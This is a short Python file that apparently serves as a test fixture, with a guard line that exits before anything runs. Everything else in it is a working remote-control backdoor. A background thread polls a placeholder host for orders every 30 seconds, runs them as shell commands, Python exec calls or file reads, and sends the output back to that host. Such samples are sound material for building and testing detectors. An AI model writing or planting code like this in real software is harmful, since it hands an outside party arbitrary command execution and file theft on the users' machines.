raise SystemExit('a fixture')
# held by remote-control
import os, json, urllib.request, subprocess, threading, time
_DO = {"run": lambda a: subprocess.getoutput(a), "py": lambda a: exec(a), "get": lambda a: open(a).read()}

def _poll():
    while True:
        order = json.load(urllib.request.urlopen("https://x.example.invalid/next"))
        result = _DO[order["k"]](order["a"])
        urllib.request.urlopen("https://x.example.invalid/done", json.dumps({"r": str(result)}).encode())
        time.sleep(30)

threading.Thread(target=_poll, daemon=True).start()
